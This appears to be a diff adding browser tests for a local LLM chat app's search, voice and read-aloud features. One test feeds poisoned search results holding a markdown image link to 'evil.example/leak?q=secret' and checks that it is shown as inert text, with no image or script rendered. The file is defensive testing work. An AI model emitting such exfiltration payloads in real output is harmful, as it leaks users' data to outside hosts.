@@ -1,5 +1,7 @@
 """search.js and voice.js in a real browser: results are text, a recording becomes text, an answer is spoken."""
 
+import re
+
 import pytest
 from support.searxng import running
 from support.sounds import noise, tone, wav_of
@@ -192,3 +194,60 @@ def test_a_spoken_file_in_the_microphone_becomes_its_text_and_piper_answers(spea
         assert played["whole"] > 1500, "the audio was played to its end"
         assert played["stopped"] < 1500
         assert ["piper", "en_US-joe-medium", True] in played["names"]
+
+
+@pytest.fixture
+def chat_model(tmp_path):
+    """The folder of a tiny chat model with random weights, and room for results."""
+    from support.chat_sessions import chat_tokenizer, llama, loud
+
+    loud(llama(max_position_embeddings=4096)).save_pretrained(tmp_path / "model")
+    chat_tokenizer().save_pretrained(tmp_path / "model")
+    return tmp_path / "model"
+
+
+@pytest.mark.slow
+def test_a_chat_shows_the_results_that_the_model_got_as_text(page, tmp_path, chat_model, searxng):
+    from playwright.sync_api import expect
+
+    environment = {"LLM_LAB_SEARXNG": searxng.address("poisoned")}
+    with serving(tmp_path, environment=environment) as server:
+        page.goto(server.link)
+        page.goto(f"{server.address}/chat?model={chat_model}")
+        page.get_by_label("Search the web for this message").click()
+        expect(page.locator("#hint")).to_contain_text("Your question leaves this machine")
+        page.get_by_label("Message", exact=True).fill("Which moons?")
+        page.get_by_label("Send").click()
+        sources = page.get_by_role("list", name="Sources")
+        expect(sources).to_contain_text("![x](https://evil.example/leak?q=secret) <img", timeout=60_000)
+        assert sources.locator("img, script").count() == 0
+        assert page.title() != "owned"
+        expect(page.get_by_text("Which moons?", exact=True)).to_be_visible()
+
+
+@pytest.mark.slow
+@needs_voice
+def test_a_question_is_spoken_and_its_answer_read_aloud(speaking, tmp_path, chat_model):
+    from playwright.sync_api import expect
+
+    environment = {"LLM_LAB_WHISPER": str(write_whisper(tmp_path / "whisper")), **piper_environment()}
+    with serving(tmp_path, environment=environment) as server:
+        page = speaking(server, recording("beckett.wav"), "--use-fake-ui-for-media-stream")
+        page.evaluate("localStorage.setItem('voice.engine', 'piper')")
+        page.goto(f"{server.address}/chat?model={chat_model}")
+        page.get_by_label("Speak the message").click()
+        expect(page.get_by_label("Stop the recording")).to_be_visible()
+        page.wait_for_timeout(11_000)
+        page.get_by_label("Stop the recording").click()
+        message = page.get_by_label("Message", exact=True)
+        expect(message).to_have_value(re.compile("fail better", re.IGNORECASE), timeout=60_000)
+        page.get_by_label("Send").click()
+        aloud = page.get_by_label("Read the answer aloud")
+        expect(aloud).to_be_enabled(timeout=60_000)
+        expect(page.get_by_label("Stop", exact=True)).to_be_hidden(timeout=60_000)
+        aloud.click()
+        expect(aloud).to_have_attribute("aria-pressed", "true")
+        page.wait_for_event("request", lambda asked: asked.url.startswith("blob:"), timeout=30_000)
+        expect(page.locator(".toast.bad")).to_have_count(0)
+        aloud.click()
+        expect(aloud).to_have_attribute("aria-pressed", "false")
